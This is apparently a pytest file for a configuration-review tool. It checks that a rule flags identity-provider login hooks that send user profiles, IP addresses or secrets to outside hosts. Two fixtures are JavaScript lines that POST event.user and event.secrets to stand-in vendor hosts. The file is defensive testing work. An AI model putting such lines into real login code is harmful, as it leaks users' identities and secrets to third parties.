"""exfil.py: code that newly sends a user's profile or secrets to a host the plan does not show as its own is
high; the same call to our own domain, a call that sends only ids, or code unchanged stays quiet."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.helpers import review_rules_alone, worst_by_rule
from tests.pipeline.test_rules_egress import entry
from tfreview.pipeline.findings import Severity

RULE = "code-sends-user-data"
CLAIMS = "exports.onLogin = async (event, api) => {\n  api.idToken.setCustomClaim('https://acme.io/roles', []);\n"


def _action(extra: str) -> list[dict[str, object]]:
    before = {"name": "claims", "code": CLAIMS + "};\n"}
    return [entry("idco_action.claims", {**before, "code": CLAIMS + extra + "};\n"}, before=before)]


def _worst(tmp_path: Path, extra: str) -> Severity | None:
    return worst_by_rule(review_rules_alone(tmp_path, _action(extra))).get(RULE)


@pytest.mark.parametrize("extra", [
    "  await fetch('https://ingest.insight-vendor.example.net/v2', {method: 'POST', "
    "body: JSON.stringify({user: event.user, ip: event.request.ip})});\n",
    "  await axios.post('https://collect.profiles-hub.example.org/x', "
    "{profile: event.user, secrets: event.secrets});\n",
])
def test_code_sending_user_data_outside_is_high(tmp_path: Path, extra: str) -> None:
    assert _worst(tmp_path, extra) is Severity.HIGH


@pytest.mark.parametrize("extra", [
    "  await fetch('https://audit.acme.io/login', {method: 'POST', body: JSON.stringify({user: event.user})});\n",
    "  await fetch('https://stats.insight-vendor.example.net/v2', {method: 'POST', body: JSON.stringify({n: 1})});\n",
    "  await fetch('https://api.insight-vendor.example.net/v2/flags');\n",
])
def test_own_hosts_or_no_user_data_is_quiet(tmp_path: Path, extra: str) -> None:
    assert _worst(tmp_path, extra) is None
